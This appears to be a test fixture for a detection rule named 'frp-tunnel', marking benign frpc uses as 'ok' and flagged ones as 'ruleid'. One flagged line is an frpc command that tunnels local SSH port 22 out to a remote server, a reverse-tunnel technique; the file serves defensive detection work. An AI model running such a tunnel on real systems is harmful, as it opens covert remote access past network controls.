#!/bin/bash
# ok: frp-tunnel
frpc --version
# ok: frp-tunnel
grep -r frpc /etc/systemd
# ruleid: frp-tunnel
./frpc -c /tmp/frpc.toml &
# ruleid: frp-tunnel
frpc tcp --server-addr=203.0.113.7 --server-port=7000 --local-port=22 --remote-port=6000
